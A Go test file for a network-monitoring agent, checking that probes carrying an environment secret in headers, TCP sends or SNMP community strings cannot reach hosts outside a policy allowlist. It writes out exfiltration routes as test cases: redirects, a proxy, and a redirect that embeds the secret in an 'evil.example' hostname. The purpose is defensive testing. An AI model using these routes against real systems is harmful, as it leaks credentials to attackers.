package agent

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"netmon/internal/natstest"
	"netmon/wire"
)

// thief is a server of somebody who may send commands, and counts who comes.
func thief(t *testing.T) (s *httptest.Server, hits *atomic.Int32) {
	t.Helper()
	hits = &atomic.Int32{}
	s = httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(s.Close)
	return s, hits
}

func portOf(t *testing.T, s *httptest.Server) string {
	t.Helper()
	u, err := url.Parse(s.URL)
	if err != nil {
		t.Fatal(err)
	}
	return u.Port()
}

const secretHeader = `"headers":{"X-Word":"${env:NETMON_SECRET_WORD}"}`

// TestSecrets_AnOperatorsOwnServer: who saves a monitor, or has one probed, that
// sends a secret to a server of their own gets nothing, whatever leads there.
func TestSecrets_AnOperatorsOwnServer(t *testing.T) {
	t.Setenv("NETMON_SECRET_WORD", "open-sesame")
	theirs, hits := thief(t)
	ours := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, theirs.URL, http.StatusFound)
		case "/named":
			http.Redirect(w, r, "http://theirs.example:"+portOf(t, theirs)+"/", http.StatusFound)
		case "/in-a-name":
			http.Redirect(w, r, "http://"+r.Header.Get("X-Word")+".evil.example/", http.StatusFound)
		}
	}))
	defer ours.Close()
	var addr atomic.Value
	addr.Store("127.0.0.2") // what the names of this resolver are
	names := fmt.Sprintf(`"resolver":%q`, resolver(t, &addr))
	_, nc := liveWithPolicy(t, fmt.Sprintf(`{"secrets":{"targets":["127.0.0.1 ports %s"]}}`, portOf(t, ours)))
	type attack struct {
		kind, target, options string
		ok                    bool
	}
	attacks := map[string]attack{
		"where it belongs":                    {"http", ours.URL, `{` + secretHeader + `}`, true},
		"somewhere else":                      {"http", theirs.URL, `{` + secretHeader + `}`, false},
		"by a redirect":                       {"http", ours.URL + "/away", `{` + secretHeader + `}`, false},
		"by a redirect to a name":             {"http", ours.URL + "/named", `{` + secretHeader + `,` + names + `}`, false},
		"in a name":                           {"http", ours.URL + "/in-a-name", `{` + secretHeader + `,` + names + `}`, false},
		"by a name of ours that is elsewhere": {"http", "http://ours.example:" + portOf(t, ours) + "/", `{` + secretHeader + `,` + names + `}`, false},
		"through a proxy":                     {"http", ours.URL, `{` + secretHeader + `,"proxy":{"url":"` + theirs.URL + `"}}`, false},
		"to a name, by a proxy":               {"http", "http://inside.example:" + portOf(t, ours) + "/", `{` + secretHeader + `,"proxy":{"url":"` + ours.URL + `"}}`, false},
		"in a dialogue":                       {"tcp", theirs.Listener.Addr().String(), `{"steps":[{"send":"${env:NETMON_SECRET_WORD}"}]}`, false},
		"in a dialogue with a name":           {"tcp", "ours.example:" + portOf(t, ours), `{"steps":[{"send":"${env:NETMON_SECRET_WORD}"}],` + names + `}`, false},
		"as a community":                      {"udp", "ours.example:" + portOf(t, ours), `{"protocol":"snmp","community":"${env:NETMON_SECRET_WORD}",` + names + `}`, false},
	}
	for what, c := range attacks {
		r := ask(t, nc, "paris", probeCommand(c.kind, c.target, c.options))
		switch {
		case c.ok && (r.Result == nil || r.Result.Outcome != wire.OK):
			t.Errorf("%s: %+v %+v", what, r.Error, r.Result)
		case !c.ok && r.Error != nil:
			if r.Error.Code != wire.CodePolicy || !strings.Contains(r.Error.Message, "secrets.targets") {
				t.Errorf("%s: %+v", what, r.Error)
			}
		case !c.ok && (r.Result == nil || r.Result.Failure != wire.BrokenPolicy || strings.Contains(fmt.Sprint(r.Result), "sesame")):
			t.Errorf("%s: %+v", what, r.Result)
		}
	}
	in := attacks["in a name"]
	if r := ask(t, nc, "paris", probeCommand(in.kind, in.target, in.options)); r.Result == nil || !strings.Contains(r.Result.Error, "it is not looked up") {
		t.Errorf("a name with the secret in it is looked up: %+v", r.Result)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("their server was reached %d times with a secret", n)
	}
	if r := ask(t, nc, "paris", probeCommand("http", theirs.URL, `{}`)); r.Result == nil || r.Result.Outcome != wire.OK {
		t.Errorf("without a secret: %+v %+v", r.Error, r.Result)
	}
}

// TestSecrets_OnASchedule: nothing is sent by what is saved either, whichever way
// the probe is run.
func TestSecrets_OnASchedule(t *testing.T) {
	t.Setenv("NETMON_SECRET_WORD", "open-sesame")
	theirs, hits := thief(t)
	snmp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer snmp.Close()
	_, udpPort, _ := net.SplitHostPort(snmp.LocalAddr().String())
	var addr atomic.Value
	addr.Store("127.0.0.1")
	names := fmt.Sprintf(`"resolver":%q`, resolver(t, &addr))
	l, nc := liveWithPolicy(t, `{"secrets":{"targets":["127.0.0.2"]}}`)
	for i, m := range []string{
		fmt.Sprintf(`"kind":"udp","target":"ours.example:%s","options":{"protocol":"snmp","community":"${env:NETMON_SECRET_WORD}",%s}`, udpPort, names),
		fmt.Sprintf(`"kind":"tcp","target":"ours.example:%s","options":{"steps":[{"send":"${env:NETMON_SECRET_WORD}"}],%s}`, portOf(t, theirs), names),
		fmt.Sprintf(`"kind":"http","target":"http://ours.example:%s/","options":{%s,%s}`, portOf(t, theirs), secretHeader, names),
	} {
		if r := ask(t, nc, "paris", fmt.Sprintf(`{"op":"start","monitors":[{"name":"m%d","every":"100ms",%s}]}`, i, m)); !r.OK {
			t.Fatal(r.Error)
		}
	}
	for seen := map[string]int{}; len(seen) < 3 || seen["m0"] < 2; {
		r := await(t, l.put, "two results of each")
		if seen[r.Monitor]++; r.Failure != wire.BrokenPolicy {
			t.Errorf("%s: %s %s %s", r.Kind, r.Outcome, r.Failure, r.Error)
		}
	}
	snmp.SetReadDeadline(time.Now().Add(10 * time.Millisecond)) // what was sent over loopback is here
	if n, _, err := snmp.ReadFrom(make([]byte, 1500)); err == nil {
		t.Errorf("a datagram of %d bytes came", n)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("their server was reached %d times", n)
	}
}

// TestSecrets_WithoutAList: an older agent ran what named secrets. After the
// update it is refused, and heartbeats say why and what to do.
func TestSecrets_WithoutAList(t *testing.T) {
	t.Setenv("NETMON_SECRET_WORD", "open-sesame")
	theirs, hits := thief(t)
	b := natstest.Start(t)
	state := t.TempDir()
	l := launch(t, "paris", state, over(b), withPolicy(t, `{"secrets":{"targets":["any"]}}`))
	l.awaitOpen()
	nc := natstest.Connect(t, b)
	saved := fmt.Sprintf(`{"op":"start","store":"s","revision":3,"monitors":[{"name":"shop","kind":"http","target":%q,"every":"1s","revision":3,"options":{%s}}]}`, theirs.URL, secretHeader)
	if r := ask(t, nc, "paris", saved); !r.OK {
		t.Fatal(r.Error)
	}
	await(t, l.put, "a result")
	l.stop()
	l.awaitEnd()
	before := hits.Load()
	again := launch(t, "paris", state, over(b))
	again.awaitOpen()
	why := ask(t, nc, "paris", `{"op":"info"}`).Info.Refused["shop"]
	cure := fmt.Sprintf(`write secrets: {targets: ["127.0.0.1 ports %s"]} into`, portOf(t, theirs))
	if !strings.Contains(why, cure) || !strings.HasSuffix(why, "restart the agent") {
		t.Errorf("the heartbeat says %q, want %q", why, cure)
	}
	r := ask(t, nc, "paris", probeCommand("http", theirs.URL, `{`+secretHeader+`}`))
	if r.Error == nil || r.Error.Code != wire.CodePolicy || r.Error.Field != "monitors[0].options.headers.X-Word" || !strings.Contains(r.Error.Message, cure) {
		t.Errorf("a probe: %+v %+v", r.Error, r.Result)
	}
	if n := hits.Load(); n != before {
		t.Errorf("reached %d times after the update", n-before)
	}
}
